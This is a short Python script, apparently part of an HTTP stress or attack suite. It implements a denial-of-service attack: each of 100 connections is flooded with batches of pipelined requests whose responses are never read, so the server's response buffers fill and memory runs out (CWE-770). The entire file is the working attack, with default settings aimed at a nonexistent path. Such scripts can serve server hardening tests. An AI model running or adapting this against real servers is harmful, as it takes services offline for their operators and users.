#!/usr/bin/env python3
"""Sends thousands of requests in a row on each of many connections and reads no answer: their heads fill the
memory for answers (CWE-770)."""

from sender import Attack, arguments, request


class PipelinedHeads(Attack):
    def begin(self, sock):
        sock.setblocking(False)
        self.push(sock)

    def push(self, sock):
        try:
            while True:
                sock.send(request(self.options.path) * 200)
        except BlockingIOError:
            pass

    def step(self, sock):
        self.push(sock)
        return True


PipelinedHeads(arguments(__doc__, connections=100, path="/no-such-page"), receive_buffer=4096).run()
